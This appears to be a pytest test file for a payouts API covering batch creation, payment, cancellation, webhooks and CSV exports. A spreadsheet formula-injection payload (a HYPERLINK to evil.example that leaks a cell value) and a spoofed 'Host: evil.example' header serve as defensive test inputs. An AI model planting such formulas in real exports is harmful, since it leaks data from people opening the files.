"""Payouts (issue 14): what is ready to pay, batches made, paid and cancelled as a whole, the
webhooks they send, and the CSV exports read back by Python's csv module and by LibreOffice."""

import csv
import io
import shutil
import subprocess
import tempfile
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from sqlalchemy import func, insert, select, update
from sqlalchemy.exc import IntegrityError
from sqlalchemy.ext.asyncio import AsyncSession

from app.domain.enums import PostStatus, Role
from app.models import Creator, PayoutLine, Post, PostEvent, StatsSnapshot, WebhookEvent
from app.settings import PROJECT_ROOT, Settings
from tests import factories as f
from tests.conftest import Org

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
T0 = datetime(2026, 11, 1, 12, tzinfo=UTC)


def _tiktok(handle: str, n: int) -> str:
    return f"https://www.tiktok.com/@{handle}/video/{7_300_000_000_000_000_000 + n}"


async def _finalize(
    session: AsyncSession,
    post_id: str,
    views: int,
    earnings: str,
    finalized_at: datetime = T0,
    **values: Any,
) -> None:
    """The state the lifecycle leaves a finalized post in (tested elsewhere)."""
    await session.execute(
        update(Post)
        .where(Post.id == uuid.UUID(post_id))
        .values(
            status=PostStatus.FINALIZED,
            views=views,
            locked_views=views,
            earnings=Decimal(earnings),
            finalized_at=finalized_at,
            published_at=finalized_at - timedelta(days=7),
            **values,
        )
    )
    await session.commit()


async def _world(client: httpx.AsyncClient, session: AsyncSession) -> dict[str, Any]:
    """Two campaigns (USD and EUR); two creators; finalized posts in both currencies, plus a
    held, a tracking and a finalized-with-open-hold post that are not ready."""
    usd = await f.campaign(client, name="Summer USD")
    eur = await f.campaign(client, name="Herbst EUR", currency="EUR")
    usd_tier = await f.tier(client, usd["id"], cpm="4.50", cap="100.00")
    eur_tier = await f.tier(client, eur["id"], cpm="3.00")
    ana = await f.creator(client, "ana")
    bo = await f.creator(client, "bo")
    for c in (usd, eur):
        tier = usd_tier if c is usd else eur_tier
        for who in (ana, bo):
            await f.member(client, c["id"], who["id"], tier["id"])
    posts = {}
    for name, (campaign, handle, n) in {
        "ana_usd_1": (usd, "ana", 1),
        "ana_usd_2": (usd, "ana", 2),
        "ana_eur": (eur, "ana", 3),
        "bo_usd": (usd, "bo", 4),
        "bo_held": (usd, "bo", 5),
        "bo_tracking": (usd, "bo", 6),
        "bo_hold_open": (usd, "bo", 7),
    }.items():
        posts[name] = (await f.post(client, campaign["id"], url=_tiktok(handle, n)))["id"]
    await _finalize(session, posts["ana_usd_1"], 2_000, "9.00")
    await _finalize(session, posts["ana_usd_2"], 10_000, "45.00", T0 + timedelta(days=2))
    await _finalize(session, posts["ana_eur"], 5_000, "15.00")
    await _finalize(session, posts["bo_usd"], 1_000, "4.50")
    await _finalize(session, posts["bo_hold_open"], 3_000, "13.50", open_holds=1)
    await session.execute(
        update(Post)
        .where(Post.id == uuid.UUID(posts["bo_held"]))
        .values(status=PostStatus.HELD, locked_views=4_000)
    )
    await session.commit()
    return {"usd": usd, "eur": eur, "ana": ana, "bo": bo, "posts": posts}


def _totals(page: dict[str, Any]) -> list[tuple[str, str, int, int, str]]:
    return [
        (r["creator_handle"], r["currency"], r["posts"], r["locked_views"], r["amount"])
        for r in page["data"]
    ]


async def test_ready_sums_per_creator_and_currency_and_filters(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    w = await _world(client, session)
    ready = await f.ok(await client.get("/v1/payouts/ready"))
    assert sorted(_totals(ready)) == [
        ("ana", "EUR", 1, 5_000, "15.00"),
        ("ana", "USD", 2, 12_000, "54.00"),
        ("bo", "USD", 1, 1_000, "4.50"),
    ]
    assert ready["next_cursor"] is None

    by_campaign = await client.get("/v1/payouts/ready", params={"campaign_id": w["eur"]["id"]})
    assert _totals(by_campaign.json()) == [("ana", "EUR", 1, 5_000, "15.00")]
    by_creator = await client.get("/v1/payouts/ready", params={"creator_id": w["bo"]["id"]})
    assert _totals(by_creator.json()) == [("bo", "USD", 1, 1_000, "4.50")]
    before = (T0 + timedelta(days=1)).isoformat()
    early = await client.get("/v1/payouts/ready", params={"finalized_before": before})
    assert ("ana", "USD", 1, 2_000, "9.00") in _totals(early.json())

    seen, cursor = [], None
    while True:
        params: dict[str, Any] = {"limit": 1} | ({"cursor": cursor} if cursor else {})
        page = await f.ok(await client.get("/v1/payouts/ready", params=params))
        seen += _totals(page)
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert sorted(seen) == sorted(_totals(ready))


async def test_a_batch_fixes_its_posts_is_paid_in_one_call_and_answers_retries(
    client: httpx.AsyncClient,
    session: AsyncSession,
    org: Org,
    make_key: Callable[[Org, Role], Any],
    client_for: Callable[[str | None], httpx.AsyncClient],
) -> None:
    w = await _world(client, session)
    editor = client_for(await make_key(org, Role.EDITOR))
    refused = await editor.post("/v1/payouts", json={"campaign_id": w["usd"]["id"]})
    assert refused.status_code == 403

    made = await client.post(
        "/v1/payouts", json={"campaign_id": w["usd"]["id"]}, headers={"Idempotency-Key": "b-1"}
    )
    batch = await f.ok(made, 201)
    assert made.headers["location"] == f"/v1/payouts/{batch['id']}"
    assert (batch["status"], batch["posts"]) == ("open", 3)
    assert batch["currencies"] == [{"currency": "USD", "posts": 3, "amount": "58.50"}]
    assert [(c["creator_handle"], c["posts"], c["amount"]) for c in batch["creators"]] == [
        ("ana", 2, "54.00"),
        ("bo", 1, "4.50"),
    ]
    assert batch["selection"]["campaign_id"] == w["usd"]["id"]
    replay = await client.post(
        "/v1/payouts", json={"campaign_id": w["usd"]["id"]}, headers={"Idempotency-Key": "b-1"}
    )
    assert replay.headers["idempotent-replayed"] == "true"
    assert replay.json()["id"] == batch["id"]

    # Its posts are no longer ready, and no other batch can take them.
    assert _totals(await f.ok(await client.get("/v1/payouts/ready"))) == [
        ("ana", "EUR", 1, 5_000, "15.00")
    ]
    again = await client.post("/v1/payouts", json={"campaign_id": w["usd"]["id"]})
    assert (again.status_code, again.json()["code"]) == (409, "payout_empty")
    taken = w["posts"]["bo_usd"]
    explicit = await client.post(
        "/v1/payouts", json={"post_ids": [w["posts"]["ana_eur"], taken, w["posts"]["bo_held"]]}
    )
    assert (explicit.status_code, explicit.json()["code"]) == (409, "posts_not_ready")
    assert sorted(explicit.json()["post_ids"]) == sorted([taken, w["posts"]["bo_held"]])
    assert (await client.get("/v1/payouts", params={"status": "open"})).json()["data"][0][
        "id"
    ] == batch["id"]

    not_admin = await editor.post(
        f"/v1/payouts/{batch['id']}/mark-paid", json={"payout_reference": "X"}
    )
    assert not_admin.status_code == 403
    paid = await f.ok(
        await client.post(
            f"/v1/payouts/{batch['id']}/mark-paid", json={"payout_reference": "WIRE-2026-11"}
        )
    )
    assert (paid["status"], paid["payout_reference"]) == ("paid", "WIRE-2026-11")
    for name in ("ana_usd_1", "ana_usd_2", "bo_usd"):
        post = await f.ok(await client.get(f"/v1/posts/{w['posts'][name]}"))
        assert (post["status"], post["payout_reference"]) == ("paid", "WIRE-2026-11")
    events = await session.scalar(
        select(func.count()).select_from(PostEvent).where(PostEvent.code == "payout_paid")
    )
    assert events == 3

    same = await client.post(
        f"/v1/payouts/{batch['id']}/mark-paid", json={"payout_reference": "WIRE-2026-11"}
    )
    assert (same.status_code, same.json()["paid_at"]) == (200, paid["paid_at"])
    other = await client.post(
        f"/v1/payouts/{batch['id']}/mark-paid", json={"payout_reference": "WIRE-OTHER"}
    )
    assert (other.status_code, other.json()["code"]) == (409, "payout_already_paid")
    cancel = await client.post(f"/v1/payouts/{batch['id']}/cancel")
    assert (cancel.status_code, cancel.json()["code"]) == (409, "payout_already_paid")
    assert (
        await session.scalar(
            select(func.count()).select_from(PostEvent).where(PostEvent.code == "payout_paid")
        )
        == 3
    )


async def test_mark_paid_is_all_or_none_and_cancel_releases_the_posts(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    w = await _world(client, session)
    ids = [w["posts"]["ana_usd_1"], w["posts"]["bo_usd"]]
    batch = await f.ok(await client.post("/v1/payouts", json={"post_ids": ids}), 201)
    rejected = w["posts"]["bo_usd"]
    await f.ok(await client.post(f"/v1/posts/{rejected}/reject", json={"reason": "Fake views"}))

    refused = await client.post(
        f"/v1/payouts/{batch['id']}/mark-paid", json={"payout_reference": "R-1"}
    )
    assert (refused.status_code, refused.json()["code"]) == (409, "payout_posts_not_payable")
    assert refused.json()["post_ids"] == [rejected]
    untouched = await f.ok(await client.get(f"/v1/posts/{w['posts']['ana_usd_1']}"))
    assert (untouched["status"], untouched["paid_at"]) == ("finalized", None)
    assert (await f.ok(await client.get(f"/v1/payouts/{batch['id']}")))["status"] == "open"

    cancelled = await f.ok(await client.post(f"/v1/payouts/{batch['id']}/cancel"))
    assert cancelled["status"] == "cancelled"
    assert cancelled["cancelled_at"] is not None
    twice = await client.post(f"/v1/payouts/{batch['id']}/cancel")
    assert (twice.status_code, twice.json()["cancelled_at"]) == (200, cancelled["cancelled_at"])
    late = await client.post(
        f"/v1/payouts/{batch['id']}/mark-paid", json={"payout_reference": "R-1"}
    )
    assert (late.status_code, late.json()["code"]) == (409, "payout_cancelled")
    # Released: the finalized post is ready again and goes into a new batch.
    assert ("ana", "USD", 2, 12_000, "54.00") in _totals(
        await f.ok(await client.get("/v1/payouts/ready"))
    )
    again = await f.ok(
        await client.post("/v1/payouts", json={"post_ids": [w["posts"]["ana_usd_1"]]}), 201
    )
    assert again["posts"] == 1


async def test_the_database_keeps_a_post_in_one_open_batch(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    w = await _world(client, session)
    batch = await f.ok(
        await client.post("/v1/payouts", json={"post_ids": [w["posts"]["bo_usd"]]}), 201
    )
    line = (
        await session.execute(
            select(PayoutLine).where(PayoutLine.payout_id == uuid.UUID(batch["id"]))
        )
    ).scalar_one()
    twin = {
        c: getattr(line, c)
        for c in (
            "organization_id",
            "post_id",
            "creator_id",
            "campaign_id",
            "currency",
            "locked_views",
            "amount",
        )
    }
    other = await f.ok(
        await client.post("/v1/payouts", json={"post_ids": [w["posts"]["ana_eur"]]}), 201
    )
    with pytest.raises(IntegrityError, match="payout_lines_open_post_id_key"):
        async with session.begin_nested():
            await session.execute(
                insert(PayoutLine).values(payout_id=uuid.UUID(other["id"]), **twin)
            )
    await client.post(f"/v1/payouts/{batch['id']}/cancel")
    async with session.begin_nested():  # released: another batch may take it
        await session.execute(insert(PayoutLine).values(payout_id=uuid.UUID(other["id"]), **twin))


async def test_payout_webhooks_carry_the_payout_as_the_api_shows_it(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    w = await _world(client, session)
    await f.ok(
        await client.post("/v1/webhook-endpoints", json={"url": "http://127.0.0.1:9/hook"}), 201
    )
    batch = await f.ok(await client.post("/v1/payouts", json={"creator_id": w["ana"]["id"]}), 201)
    await f.ok(
        await client.post(f"/v1/payouts/{batch['id']}/mark-paid", json={"payout_reference": "P"})
    )
    shown = await f.ok(await client.get(f"/v1/payouts/{batch['id']}"))
    rows = (
        await session.execute(
            select(WebhookEvent.type, WebhookEvent.payload)
            .where(WebhookEvent.type.like("payout.%"))
            .order_by(WebhookEvent.created_at)
        )
    ).all()
    assert [r.type for r in rows] == ["payout.created", "payout.paid"]
    assert rows[0].payload["data"] == batch
    assert rows[1].payload["data"] == shown
    post_paid = await session.scalar(
        select(func.count()).select_from(WebhookEvent).where(WebhookEvent.type == "post.paid")
    )
    assert post_paid == 3  # ana's two USD posts and the EUR one


def _read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM (see payout_exports)
    assert b"\r\n" in body
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _spreadsheet(*files: Path) -> list[list[list[tuple[Any, str]]]]:
    """Each CSV as LibreOffice Calc opens it (comma, double quotes, UTF-8, formulas
    evaluated), saved as .xlsx and read back: (value, type) per cell, type being openpyxl's
    's' text, 'n' number or 'f' formula."""
    subprocess.run(["bash", str(PROJECT_ROOT / "tests" / "system_packages.sh")], check=True)
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice is not None
    with tempfile.TemporaryDirectory() as profile, tempfile.TemporaryDirectory() as out:
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation=file://{profile}",
                "--headless",
                # separator, quote, UTF-8, first line, (formats), en-US, then token 13:
                # evaluate formulas, as a user opening the file would have it.
                "--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true",
                "--convert-to",
                "xlsx",
                "--outdir",
                out,
                *map(str, files),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        books = []
        for file in files:
            sheet = openpyxl.load_workbook(Path(out) / f"{file.stem}.xlsx").active
            assert sheet is not None
            books.append([[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()])
        return books


async def test_the_exports_read_back_exactly_and_open_safely_in_a_spreadsheet(
    client: httpx.AsyncClient, session: AsyncSession, tmp_path: Path
) -> None:
    w = await _world(client, session)
    # A campaign name and a handle (as a platform could sync it) that a spreadsheet would run.
    await client.patch(f"/v1/campaigns/{w['usd']['id']}", json={"name": EVIL})
    await session.execute(
        update(Creator)
        .where(Creator.id == uuid.UUID(w["ana"]["id"]))
        .values(handle="@ana", platform_user_id="6718335390845095173")
    )
    ana_1 = uuid.UUID(w["posts"]["ana_usd_1"])
    seen = T0 - timedelta(hours=3)
    campaign_id = uuid.UUID(w["usd"]["id"])
    await session.execute(
        insert(StatsSnapshot),
        [
            {"post_id": ana_1, "campaign_id": campaign_id, "captured_at": seen - timedelta(hours=6),
             "views": 1_500, "likes": 0, "comments": 0, "source": "primary"},
            {"post_id": ana_1, "campaign_id": campaign_id, "captured_at": seen,
             "views": 2_000, "likes": 0, "comments": 0, "source": "primary"},
        ],
    )  # fmt: skip
    # As its decision recorded it: the answer its locked 2,000 views came from.
    await session.execute(update(Post).where(Post.id == ana_1).values(locked_observed_at=seen))
    await session.commit()
    batch = await f.ok(await client.post("/v1/payouts", json={}), 201)

    export = await client.get(f"/v1/payouts/{batch['id']}/export.csv")
    assert export.status_code == 200
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in export.headers["content-disposition"]
    rows = _read_csv(export.content)
    header, lines = rows[0], rows[1:]
    assert header[:3] == ["creator_handle", "platform", "platform_user_id"]
    assert len(lines) == 4
    line = dict(zip(header, next(r for r in lines if r[7] == "2000"), strict=True))
    assert line["creator_handle"] == "'@ana"
    assert line["campaign"] == "'" + EVIL
    assert line["platform_user_id"] == "'6718335390845095173"
    assert line["platform_post_id"] == "'7300000000000000001"
    assert line["post_url"] == _tiktok("ana", 1)
    assert (line["cpm"], line["cap"], line["earnings"], line["currency"]) == (
        "4.5000",
        "100.00",
        "9.00",
        "USD",
    )
    assert line["observed_at"] == "2026-11-01T09:00:00Z"
    assert line["finalized_at"] == "2026-11-01T12:00:00Z"
    assert line["published_at"] == "2026-10-25T12:00:00Z"
    assert line["evidence_url"] == f"/v1/posts/{ana_1}/evidence"  # PUBLIC_BASE_URL unset

    summary = _read_csv((await client.get(f"/v1/payouts/{batch['id']}/summary.csv")).content)
    assert summary == [
        ["creator_handle", "platform", "platform_user_id", "currency", "posts", "locked_views",
         "amount"],
        ["'@ana", "tiktok", "'6718335390845095173", "EUR", "1", "5000", "15.00"],
        ["'@ana", "tiktok", "'6718335390845095173", "USD", "2", "12000", "54.00"],
        ["bo", "tiktok", "", "USD", "1", "1000", "4.50"],
    ]  # fmt: skip

    # The same bytes in a real spreadsheet; a control file shows it does run formulas.
    (tmp_path / "export.csv").write_bytes(export.content)
    (tmp_path / "summary.csv").write_bytes(
        (await client.get(f"/v1/payouts/{batch['id']}/summary.csv")).content
    )
    (tmp_path / "control.csv").write_text('a,b\r\n1,"' + EVIL.replace('"', '""') + '"\r\n')
    sheet, summary_sheet, control = _spreadsheet(
        tmp_path / "export.csv", tmp_path / "summary.csv", tmp_path / "control.csv"
    )
    assert control[1][1][1] == "f"  # unneutralized, it would have been a live formula
    assert [v for v, _ in sheet[0]] == list(header)  # the BOM is not in the first cell
    cells = [dict(zip(header, row, strict=True)) for row in sheet[1:]]
    assert all(t != "f" for row in sheet for _, t in row)  # no formula anywhere
    mine = next(c for c in cells if c["locked_views"] == (2000, "n"))
    assert mine["campaign"] == ("'" + EVIL, "s")
    assert mine["creator_handle"] == ("'@ana", "s")
    assert mine["platform_user_id"] == ("'6718335390845095173", "s")  # exact, not 6.7E+18
    assert mine["earnings"] == (9, "n")
    assert mine["cpm"] == (4.5, "n")
    assert [v for v, _ in summary_sheet[2]] == ["'@ana", "tiktok", "'6718335390845095173",
                                               "USD", 2, 12000, 54]  # fmt: skip
    assert sum(row[6][0] for row in summary_sheet[1:]) == pytest.approx(73.5)


async def test_a_payout_by_filters_with_a_date_is_answered_not_a_500(
    client: httpx.AsyncClient,
) -> None:
    """Found by the fuzzer: `finalized_before` with `post_ids: null` reached a 500."""
    c = await f.campaign(client)
    refused = await client.post(
        "/v1/payouts",
        json={"campaign_id": c["id"], "finalized_before": "2000-01-01T00:00:00Z", "post_ids": None},
    )
    assert (refused.status_code, refused.json()["code"]) == (409, "payout_empty")


async def test_the_evidence_url_comes_from_public_base_url_never_from_the_host_header(
    app: Any, client: httpx.AsyncClient, session: AsyncSession, settings: Settings
) -> None:
    """Issue 22 item 17: a CSV a payer opens must not carry links a request's Host header
    chose (`Host: evil.example` made them point there)."""
    await _world(client, session)
    batch = await f.ok(await client.post("/v1/payouts", json={}), 201)
    path = f"/v1/payouts/{batch['id']}/export.csv"

    async def evidence_urls() -> list[str]:
        export = await client.get(path, headers={"Host": "evil.example"})
        header, *lines = _read_csv(export.content)
        column = header.index("evidence_url")
        return [line[column] for line in lines]

    relative = await evidence_urls()
    assert len(relative) == 4
    assert all(u.startswith("/v1/posts/") for u in relative), relative
    assert all(u.endswith("/evidence") for u in relative)
    app.state.settings = settings.model_copy(
        update={"public_base_url": "https://ledger.example.com/base"}
    )
    try:
        absolute = await evidence_urls()
    finally:
        app.state.settings = settings
    assert absolute == ["https://ledger.example.com/base" + u for u in relative]


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        ("https://ledger.example.com/", "https://ledger.example.com"),
        ("http://127.0.0.1:8000/vl", "http://127.0.0.1:8000/vl"),
        ("", None),
    ],
)
def test_public_base_url_is_kept_without_its_trailing_slash(value: str, kept: str | None) -> None:
    assert Settings(public_base_url=value).public_base_url == kept


@pytest.mark.parametrize("value", ["ledger.example.com", "ftp://x.example", "https://x/?a=1"])
def test_public_base_url_must_be_an_absolute_http_url(value: str) -> None:
    with pytest.raises(ValueError, match="public_base_url"):
        Settings(public_base_url=value)
